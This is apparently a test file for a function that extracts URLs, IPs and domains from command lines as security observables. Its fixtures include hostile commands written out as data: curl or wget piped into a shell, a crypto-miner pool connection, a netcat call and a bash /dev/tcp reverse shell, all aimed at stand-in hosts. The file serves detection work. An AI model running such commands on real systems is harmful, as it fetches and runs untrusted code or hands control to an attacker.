import { describe, expect, it } from "vitest";
import { commandObservables } from "../../src/enrichment/command-observables.ts";

const of = (command: string) => commandObservables(command).map(({ type, value }) => `${type} ${value}`);

describe("Observables of a command line", () => {
  it.each([
    ["curl -sfL http://bad.example/a.sh | sh", ["url http://bad.example/a.sh"]],
    [
      "sh -c \"wget -qO- 'https://bad.example/x?a=1&b=2,3;c'|bash\"",
      ["url https://bad.example/x?a=1&b=2,3;c"],
    ],
    ["xmrig -o stratum+tcp://pool.bad.example:3333 -u x", ["url stratum+tcp://pool.bad.example:3333"]],
    ["nc 203.0.113.9 4444", ["ip 203.0.113.9"]],
    ["bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", ["ip 203.0.113.9"]],
    ["ssh root@host.bad.example:22", ["domain host.bad.example"]],
    ["curl bad.example/path/file", ["domain bad.example"]],
    ["curl --proxy=proxy.bad.example:8080 x", ["domain proxy.bad.example"]],
    ["ping6 2001:db8::1", ["ip 2001:db8::1"]],
    ["curl http://[2001:db8::1]:80/a", ["url http://[2001:db8::1]:80/a"]],
    ["curl -uhttp://bad.example/", ["url http://bad.example/"]],
    ["ls -la /etc /tmp/x", []],
    ["", []],
  ])("%s", (command, expected) => {
    expect(of(command)).toEqual(expected);
  });

  it("takes a file's name for a domain, which no feed lists", () => {
    expect(of("python main.py")).toEqual(["domain main.py"]);
  });

  it("is bounded: by length of the line and number of what is found", () => {
    expect(of("a.example ".repeat(1_000))).toHaveLength(32);
    expect(of(`${" ".repeat(5_000)}a.example`)).toEqual([]);
    for (const letter of [".", ":", "/", "=", "-", "a", "://", "@"])
      expect(of(letter.repeat(100_000)).length).toBeLessThan(33);
  });
});
